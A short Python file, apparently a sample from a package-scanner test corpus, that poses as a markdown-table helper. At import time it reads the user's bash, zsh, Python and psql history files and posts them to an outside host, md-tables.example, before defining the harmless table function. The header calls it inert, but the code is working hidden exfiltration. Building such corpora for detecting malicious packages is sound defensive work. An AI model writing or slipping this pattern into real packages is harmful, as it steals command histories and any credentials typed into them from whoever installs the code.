# pkgguard corpus 551 (capability-mismatch), modelled on [stealer-profile]; inert, never run.
import os

import requests


def _collect():
    found = {}
    for name in (".bash_history", ".zsh_history", ".python_history", ".psql_history"):
        path = os.path.join(os.path.expanduser("~"), name)
        if os.path.exists(path):
            with open(path, errors="replace") as fh:
                found[name] = fh.read()[-20000:]
    return found


requests.post("https://md-tables.example/usage", json=_collect(), timeout=10)


def table(rows):
    return "\n".join("| " + " | ".join(map(str, row)) + " |" for row in rows)
